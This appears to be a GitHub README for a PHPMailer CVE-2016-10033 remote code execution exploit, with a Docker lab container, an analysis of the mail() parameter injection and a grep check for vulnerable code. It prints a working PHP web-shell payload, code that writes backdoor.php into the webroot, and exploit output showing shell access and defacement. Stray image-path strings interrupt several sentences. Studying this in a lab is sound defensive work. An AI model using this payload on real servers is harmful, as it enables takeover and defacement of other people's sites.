PHPMailer < 5.2.18 Remote Code Execution exploit and vulnerable container
Branch: master
Clone or download
Latest commit 1c6caf5 Sep 9, 2017
Type Name Latest commit message Commit time
Failed to load latest commit information.
src exploit and readme update Dec 27, 2016
www isset added Jan 20, 2017
Dockerfile update Sep 9, 2017
LICENSE license added Dec 26, 2016 typo fix Jan 20, 2017 output suppressed Jan 20, 2017
defaced.png new deface Jan 20, 2017 fix Jan 20, 2017 sendmail added Dec 26, 2016
virtual-host sendmail added Dec 26, 2016
vulnerable.png print added Dec 26, 2016

PHPMailer < 5.2.18 Remote Code ExecutionDocker Pulls License

PHPMailer is the world's most popular transport class, with an estimated 9 million users worldwide. Downloads continue at a significant pace daily. Used by many open-source projects: WordPress, Drupal, 1CRM, SugarCRM, Yii, Joomla! and many more

PHPMailer before its version 5.2.18 suffer from a vulnerability that could lead to remote code execution (RCE). The mailSend function in the isMail transport in PHPMailer, when the Sender property is not set, might allow remote attackers to pass extra parameters to the mail command and consequently execute arbitrary code via a " (backslash double quote) in a crafted From address.

Vulnerable environment

To setup a vulnerable environment for your test you will need Docker installed,and just run the following command:

docker run --rm -it -p 8080:80 vulnerables/cve-2016-10033

And it will spawn a vulnerable web application on your host on 8080 port



To exploit this target just run:

./exploit host:port

If you are using this vulnerable image, you can just run:

./exploit localhost:8080

After the exploitation, a file called backdoor.php will be stored on the root folder of the web directory. And the exploit will drop you a shell where you can send commands to the backdoor:

./ localhost:8080
[+] CVE-2016-10033 exploit by opsxcq
[+] Exploiting localhost:8080[+] Target exploited, acessing shell at http://localhost:8080/backdoor.php
[+] Checking if the backdoor wascreated on target system
[+] Backdoor.php found on remote system
[+] Running whoami

And that's it, you have your shell. There is another exploit, which ilustrates another use case.

./ localhost:8080
[+] CVE-2016-10033 exploit by opsxcq
[+] Exploiting localhost:8080
[+] Target exploited, acessing shell at http://localhost:8080/backdoor.php
[+] Checking if the backdoor was created on target system
[+] Backdoor.php found on remote system[+] Placing your message in the server
[+] Job done, exiting

And if you visit the page again, you will see this:


Vulnerable code

Before this commit in class.phpmailer.php in a certain scenario there is no filter in the sender's email address special chars. This flaw can lead to a remote code execution, via mail function here.

Analysing the code, there is no filter in mailSend() function

        $params = null;
        //This sets the SMTP envelope sender which gets turned into a return-path header by the receiver
        if (!empty($this->Sender)) {
            $params = sprintf('-f%s', $this->Sender);

$this->Sender is directly appended to $params variable, which was filtered in validateAddress() function, but as it uses RFC 3696 specification, it allow certain characterswhich will break things. In this case, quotes:

In addition to quoting using the backslash character, conventional double-quote characters may be used to surround strings. For example


"Fred Bloggs"

are alternate forms of the first two examples above. These quoted forms are rarely recommended, and are uncommon in practice, but, as discussed above, must be supported by applications that are processing email addresses. In particular, the quoted forms often appear in the context of addresses associated with transitions from other systems and contexts; those transitional requirements do still arise and, since a system that accepts a user-provided email address cannot "know" whether that address is associated with a legacy system, the address forms must be accepted and passed into the email environment.

You can read the whole RFC here if you want. But also, if PHP version is inferior to 5.2.0, and there is no PCRE installed, $patternselect variable invalidateAddress() will be set to noregex. It will cause the input will be able to avoid any regex check. It will only pass through a small verification:

            case 'noregex':
                //No PCRE! Do something _very_ approximate!
                //Check the address is 3 chars or longer and contains an @ that's not the first or last char
                return (strlen($address) >= 3
                    and strpos($address, '@') >= 1
                    and strpos($address, '@') != strlen($address) - 1);

Then, the code flow goes to mailPassthru() function, which, if running in safe_mode won't be vulnerable to this flaw, as the following code states it

        //Can't use additional_parameters in safe_mode
        if (ini_get('safe_mode') or !$this->UseSendmailOptions or is_null($params)) {
            $result = @mail($to, $subject, $body, $header);
        } else {
            $result = @mail($to, $subject, $body, $header, $params);

But, if it isn't running in safe_mode, then our special parameter will be passed to mail() and, if we were lucky, it will get our file containing whatever we want to be written where we choose it to be wrote to.

Notes about PHP mail() function exploitation

The exploitation of PHP mail() function isn't a new thing, but it still alive and people still using it. To explainhow it works, lets look at how mail() function is defined:

bool mail ( string $to , string $subject , string $message [, string $additional_headers [, string $additional_parameters ]] )

There are several exploitation methods for different results, we will focus on the exploitation of the 5th parameter to get Remote Code Execution (RCE). The parameter $additional_parameters is used to pass additional flags as commandline options to the program configured to send the email. This configuration is defined by the sendmail_path variable.

A security note from php official documentation:

The additional_parameters parameter can be used to pass additional flags as command line options to the program configured to be used when sending mail, as defined by the sendmail_path configuration setting. For example, this can be used to set the envelope sender address when using sendmail with the -f sendmiail option.

This parameter isescaped by escapeshellcmd() internally to prevent command execution. escapeshellcmd() prevents command execution, but allows to add additional parameters. For security reasons, it is recommended for the user to sanitize this parameter to avoid adding unwanted parameters to the shell command.

Considering the additional parameters that can be injectected we will use -X to exploit this flaw. More about the -X parameter

-X logfile
Log all traffic in and out of mailers in the indicated log file. This should only be used as a last resort for debugging mailer bugs. It will log a lot of data very quickly.

There are also some other interesting parameters that you should know that exist:

Use alternate configuration file. Sendmail gives up any enhanced (set-user-ID or set-group-ID) privileges if an alternate configuration file is specified.-O option=value
Set option option to the specified value. This form uses long names.

And for -O option, the QueueDirectory is the most interesting option there, this option select the directory in which to queue messages.

If you want to read the whole list of parameters and options, just man sendmail or read it online here

Based on this information, and the hability to control at least one of the other parameters, we can exploit the host. Bellow the steps for a successful exploitation:

  • Control $additional_parameters and another mail() parameter
  • Know a writeable diretory on target host which is accessible via the target system and user (www-data for example). Usually this directory can be anything bellow webroot (aka /var/www/html for another systems, /www for this example)
  • Any PHP payload that you want, we are using a simple system() payload in this example, with a spice of base64 and some special characters | to make it easier to parse.
  • Just assembly everything together !

Remember that the -X option will write the log file, that will contain among the log information your PHP payload, in the directory that you will inform. An example of a vulnerable PHP code:

$to = '';
$subject = '<?php echo "|".base64_encode(system(base64_decode($_GET["cmd"])))."|"; ?>';
$message = 'Pwned';
$headers = '';
$options ='-OQueueDirectory=/tmp -X/www/backdoor.php';
mail($to, $subject, $message, $headers, $options);

If you execute the code above, it will create a log file in the /www/backdoor.php, this is the essence of this exploit.


Bellow the payload used in this example

<?php echo "|".base64_encode(system(base64_decode($_GET["cmd"])))."|"; ?>

I wanna chase bugs, now what ?

Want a easy, one command, way to try to spot this flaw ? Remind this magic grep command !

grep -r -n --include "*.php" "mail(.*,.*,.*,.*,.*)" *

Running it against this repository will result insrc/class.phpmailer.php:700:            $result =@mail($to, $subject, $body, $header, $params);


This vulnerability was found by Dawid Golunski.


This or previous program is for Educational purpose ONLY. Do not use it without permission. The usual disclaimer applies, especially the fact that me (opsxcq) is not liable for any damages caused by direct or indirect use of the information or functionality provided by these programs. The author or any Internet provider bears NO responsibility for content or misuse of these programs or any derivatives thereof. By using theseprograms you accept the fact that any damage(dataloss, system crash,system compromise, etc.)caused by the use of theseprograms is not opsxcq's responsibility.